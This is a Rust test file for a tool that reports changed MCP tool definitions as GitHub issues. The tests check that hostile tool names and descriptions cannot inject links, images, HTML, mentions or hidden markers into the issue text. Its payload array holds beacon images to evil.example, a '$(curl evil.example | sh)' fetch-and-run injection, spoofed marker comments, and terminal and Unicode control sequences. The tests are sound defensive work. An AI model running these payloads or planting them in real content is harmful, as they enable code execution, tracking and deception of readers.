//! A server whose every string is an attack: what a GFM reader makes of our issues.
#![expect(
    clippy::wildcard_enum_match_arm,
    reason = "what else a reader knows of is harmless"
)]

use comrak::nodes::NodeValue;
use comrak::{Arena, Options, parse_document};
use jiff::ToSpan;
use lockgate::check::Reason;
use serde_json::{Value, json};

use super::fake::{Fake, Issue};
use super::nights::{Offer, Repo, Server};

const RUN: &str = "https://github.com/acme/widgets/actions/runs/1";

/// Each would be more than text if it got out.
const ATTACKS: [&str; 14] = [
    "</details></code></pre><img src=\"https://evil.example/x.png\">",
    "![beacon](https://evil.example/x.png) [ok](https://evil.example)",
    "```\n```` \n~~~\n</details>\n\n# unchanged\n@alice #1 GH-1 acme/widgets#2",
    "<!-- lockgate:v1 tracker is=standing -->",
    "-->\n<!-- lockgate:memory {\"v\":1} -->",
    "| `a` | unchanged |\n|---|---|\n| x | y |",
    "https://evil.example/ www.evil.example mail@evil.example",
    "\u{202e}\u{200b}\u{e0072}\u{e006d}\u{1b}[2J\r\n::error::x ##[group]y",
    "$(curl evil.example | sh)`id`' \" ; & |",
    "<details open><summary>✅ unchanged</summary>",
    "\u{2028}# heading\u{0}",
    "&lt;b&gt; &#64;alice",
    "- [x] done\n1. one\n> quote\n    code",
    "[-in the team-]{+ok+} ⟨U+200B⟩",
];

fn hostile_tools(suffix: &str) -> Value {
    let tool = |(at, attack): (usize, &&str)| {
        json!({
            "name": format!("t{at} {attack}"),
            "description": format!("{attack} {suffix}"),
            "inputSchema": {"type": "object", "properties": {*attack: {"description": format!("{attack}{suffix}")}}},
            "annotations": {"title": format!("{attack}{suffix}")}
        })
    };
    ATTACKS.iter().enumerate().map(tool).collect()
}

fn night(change: impl FnOnce(&mut Repo)) -> (Repo, Issue) {
    let fake = Fake::start();
    let mut server = Server::new("linear");
    server.url = "https://linear.example.com/@alice/%3Cimg%3E|x?a=`b`&c=#1".replace("#1", "");
    server.approved = hostile_tools("one");
    server.paths = ATTACKS
        .iter()
        .map(|attack| format!("mcp/{attack}"))
        .collect();
    let mut repo = Repo::new(&fake, &fake.origin, vec![server]);
    change(&mut repo);
    repo.night();
    let issue = fake.issues().remove(0).1;
    (repo, issue)
}

/// What a reader makes of a text: that nothing in it is somebody else's.
fn check(body: &str) {
    let arena = Arena::new();
    let mut options = Options::default();
    options.extension.table = true;
    options.extension.autolink = true;
    options.extension.strikethrough = true;
    options.extension.tasklist = true;
    options.extension.footnotes = true;
    let root = parse_document(&arena, body, &options);
    for node in root.descendants() {
        match &node.data.borrow().value {
            NodeValue::Link(link) => assert_eq!(link.url, RUN),
            NodeValue::Image(_) | NodeValue::TaskItem(_) | NodeValue::FootnoteReference(_) => {
                panic!("{:?}", node.data.borrow().value)
            }
            NodeValue::HtmlBlock(html) => html.literal.lines().for_each(ours),
            NodeValue::HtmlInline(html) => ours(html),
            NodeValue::Text(text) => {
                assert!(!text.contains(['@', '<']), "{text}");
                assert!(!text.contains("evil.example"), "{text}");
            }
            _ => {}
        }
    }
}

/// A line of HTML: comments of ours, or tags that say how a text looks and nothing else.
fn ours(html: &str) {
    if html.starts_with("<!-- lockgate:") {
        assert_eq!(html.matches('>').count(), 1, "{html}");
        return;
    }
    const TAGS: [&str; 10] = [
        "code", "del", "details", "i", "ins", "li", "p", "pre", "summary", "ul",
    ];
    for piece in html.split('<').skip(1) {
        let (tag, text) = piece.split_once('>').unwrap_or_else(|| panic!("{html}"));
        let name = tag.strip_prefix('/').unwrap_or(tag);
        assert!(TAGS.contains(&name) || name == "b", "<{tag}> in {html}");
        assert!(!text.contains('>'), "{html}");
    }
}

/// The marker lines of a body that a page would hide.
fn hidden(body: &str) -> usize {
    let arena = Arena::new();
    let root = parse_document(&arena, body, &Options::default());
    let html = root
        .descendants()
        .filter_map(|node| match &node.data.borrow().value {
            NodeValue::HtmlBlock(html) => Some(html.literal.matches("<!--").count()),
            _ => None,
        });
    html.sum()
}

#[test]
fn a_drift_holds_nothing_but_text_of_theirs() {
    let (mut repo, issue) =
        night(|repo| repo.servers[0].offers = Offer::Tools(hostile_tools("two")));
    check(&issue.body);
    assert_eq!(hidden(&issue.body), 1, "our marker and no other");
    assert!(issue.title.is_ascii() || issue.title.contains('·'));
    assert!(
        !issue.title.contains(['@', '<', '`', '#']),
        "{}",
        issue.title
    );
    let tracker = repo.fake.tracker();
    check(&tracker.body);
    assert_eq!(hidden(&tracker.body), 2, "marker and memory");
    assert_eq!(tracker.body.matches("✗ changed").count(), 1);
    assert!(!tracker.body.contains("✓"));
    // Back, and changed again: the comments, and the body with its new head.
    repo.servers[0].goes_back();
    repo.night();
    repo.servers[0].offers = Offer::Tools(hostile_tools("three"));
    repo.night();
    let issue = repo.fake.issues().remove(0).1;
    check(&issue.body);
    assert_eq!(issue.comments.len(), 2);
    issue
        .comments
        .iter()
        .for_each(|comment| check(&comment.body));
}

#[test]
fn all_new_and_all_gone_likewise() {
    let (_, issue) = night(|repo| repo.servers[0].offers = Offer::Tools(json!([])));
    check(&issue.body);
    let (_, issue) = night(|repo| {
        repo.servers[0].approved = json!([]);
        repo.servers[0].offers = Offer::Tools(hostile_tools("new"));
    });
    check(&issue.body);
    assert_eq!(
        issue.title,
        "MCP tools changed: linear.example.com · 14 new tools · reads like an attack"
    );
}

#[test]
fn a_silence_likewise() {
    let fake = Fake::start();
    let mut repo = Repo::new(&fake, &fake.origin, vec![Server::new("linear")]);
    repo.servers[0].is_silent(Reason::RpcError);
    repo.night();
    repo.night();
    check(&repo.fake.issues()[0].1.body);
}

#[test]
fn a_body_never_grows_too_long_and_says_what_is_left_out() {
    for (count, length) in [(3, 40_000), (400, 2_000), (1, 600_000), (2_000, 10)] {
        let tools = |text: &str| -> Value {
            let description = format!("{text} {}", "word ".repeat(length / 5));
            let tool =
                |at: usize| json!({"name": format!("tool_{at}"), "description": description});
            (0..count).map(tool).collect()
        };
        let fake = Fake::start();
        let mut repo = Repo::new(&fake, &fake.origin, vec![Server::new("linear")]);
        repo.servers[0].approved = json!([]);
        repo.servers[0].offers = Offer::Tools(tools("new"));
        repo.night();
        let body = repo.fake.issues().remove(0).1.body;
        let characters = body.chars().count();
        assert!(characters <= 60_000, "{count} × {length}: {characters}");
        assert!(
            body.contains("**Left out, for want of room:** `tool_"),
            "{count} × {length}"
        );
        assert!(
            !body.contains("--expect "),
            "what was not shown whole is not referred to"
        );
        assert!(body.contains("### How this closes"));
        check(&body);
    }
}

#[test]
fn a_name_without_end_is_told_by_its_length() {
    let fake = Fake::start();
    let mut server = Server::new("linear");
    server.url = format!("https://linear.example.com/{}", "x".repeat(200_000));
    server.paths = vec![format!("mcp/{}", "y".repeat(4_000))];
    let mut repo = Repo::new(&fake, &fake.origin, vec![server]);
    let name = "z".repeat(90_000);
    repo.servers[0].offers = Offer::Tools(json!([{"name": name}]));
    repo.night();
    let body = repo.fake.issues().remove(0).1.body;
    assert!(body.contains("(a text of 200027 characters)"), "{body}");
    assert!(body.chars().count() <= 60_000);
    assert!(repo.fake.tracker().body.chars().count() <= 60_000);
    let title = repo.fake.issues().remove(0).1.title;
    assert!(title.chars().count() <= 256);
    repo.now = repo.now.checked_add(1.hour()).unwrap();
    repo.night();
    assert_eq!(repo.writes(), [""; 0]);
}
